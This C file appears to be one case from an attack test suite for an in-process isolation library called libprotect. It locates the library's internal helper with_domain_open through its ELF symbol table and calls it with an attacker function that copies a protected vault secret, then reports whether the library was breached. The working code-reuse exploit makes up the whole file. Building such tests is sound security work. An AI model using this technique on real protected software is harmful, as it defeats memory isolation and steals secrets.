/* Code reuse into libprotect itself: its internal helper that runs a
 * function with a domain open (with_domain_open), found in its symbol
 * table and called with the attacker's function. */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <gelf.h>
#include <link.h>
#include <unistd.h>

static uint8_t stolen[VAULT_SECRET_LEN];

static uintptr_t steal(void *arg)
{
    memcpy(stolen, vault_address(VAULT_DATA)->secret, sizeof stolen);
    return 0;
}

struct found {
    const char *path;
    uintptr_t base;
};

static int find_libprotect(struct dl_phdr_info *info, size_t size, void *arg)
{
    struct found *f = arg;
    if (!strstr(info->dlpi_name, "libprotect.so"))
        return 0;
    f->path = info->dlpi_name;
    f->base = info->dlpi_addr;
    return 1;
}

static uintptr_t symbol(const char *path, const char *name)
{
    elf_version(EV_CURRENT);
    int fd = open(path, O_RDONLY);
    Elf *e = elf_begin(fd, ELF_C_READ, NULL);
    for (Elf_Scn *s = NULL; e && (s = elf_nextscn(e, s));) {
        GElf_Shdr sh;
        gelf_getshdr(s, &sh);
        if (sh.sh_type != SHT_SYMTAB)
            continue;
        Elf_Data *d = elf_getdata(s, NULL);
        for (size_t i = 0; i < sh.sh_size / sh.sh_entsize; i++) {
            GElf_Sym sym;
            gelf_getsym(d, (int)i, &sym);
            if (strcmp(elf_strptr(e, sh.sh_link, sym.st_name), name) == 0)
                return sym.st_value;
        }
    }
    return 0;
}

int main(void)
{
    vault_open();
    struct found f = {0};
    dl_iterate_phdr(find_libprotect, &f);
    uintptr_t at = f.path ? symbol(f.path, "with_domain_open") : 0;
    if (!at)
        blocked("with_domain_open not found (a stripped libprotect only hides it)");
    uintptr_t (*with_domain_open)(int, uintptr_t (*)(void *), void *) = (void *)(f.base + at);
    with_domain_open(0, steal, NULL);
    if (vault_matches(VAULT_DATA, stolen))
        breached("read the library's secret through libprotect's own helper");
    blocked("what was read is not the secret");
}
